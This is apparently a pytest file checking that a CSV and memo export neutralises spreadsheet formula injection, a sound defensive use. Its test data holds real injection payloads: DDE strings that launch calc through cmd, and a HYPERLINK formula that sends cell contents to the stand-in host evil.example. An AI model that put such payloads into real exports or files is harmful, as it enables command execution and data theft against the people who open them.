"""Formula-injection-safe exports (OWASP CSV injection): formula-like cells become text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.qa.exports import FORMULA_PREFIXES, neutralise_cell, to_csv


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "-",
        "+",
        "@",
        "=",
        "-x",
        "@handle",
    ],
)
def test_formula_like_cells_get_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["-3.1", "+5", "-1,234.50", "-12%", "1e6", "-2.5E-3", "Acme = good", "2019-01-05", "450000", "", None, "'=1"],
)
def test_numbers_and_ordinary_text_are_left_alone(value: str | None) -> None:
    assert neutralise_cell(value) == value


@given(st.text())
def test_no_neutralised_cell_starts_with_a_formula_character_unless_it_is_a_number(value: str) -> None:
    out = neutralise_cell(value)
    assert out in (value, "'" + value)
    if out.startswith(FORMULA_PREFIXES):
        assert out == value and any(c.isdigit() for c in value)
        assert float(value.replace(",", "").rstrip("%")) == float(value.replace(",", "").rstrip("%"))


def test_csv_export_quotes_and_neutralises_every_cell() -> None:
    text = to_csv(["Company", "=Total"], [["Acme, Inc.", '=HYPERLINK("x")'], ["Borealis", "-1,500.25"],
                                         [None, "@SUM(A1)"]])  # fmt: skip
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Company", "'=Total"], ["Acme, Inc.", "'=HYPERLINK(\"x\")"], ["Borealis", "-1,500.25"],
                    ["", "'@SUM(A1)"]]  # fmt: skip


def test_every_line_of_the_memo_export_is_neutralised() -> None:
    from core.qa.exports import FORMULA_PREFIXES
    from core.qa.feedback import Turn, answer_memo
    from tests.factories import CELL, PAGE

    evil = '=HYPERLINK("http://evil.example","x")'
    turns = [
        Turn(message_id=1, question=f"What is it?\n{evil}", answer="It is 5 [1].\n@SUM(A1)\r+cmd|' /C calc'!A0",
             citations=[CELL.model_copy(update={"value": f"ok\n{evil}"}), PAGE], abstained=False, query_id=3,
             created_at=None, markers={1: [0], 2: [1]}),
        Turn(message_id=2, question=evil, answer="-2+3+cmd|' /C calc'!A0", citations=[], abstained=True,
             query_id=4, created_at=None),
    ]  # fmt: skip
    attempts = got_through = 0
    for turn in turns:
        for line in answer_memo(turn, "=Room").splitlines():
            attempts += 1
            got_through += line.startswith(FORMULA_PREFIXES) and not line.lstrip("+-").replace(".", "").isdigit()
    print(f"memo lines a spreadsheet would run: {attempts} lines, {got_through} formulas")
    assert got_through == 0
    assert "'" + evil in answer_memo(turns[0], "Room")
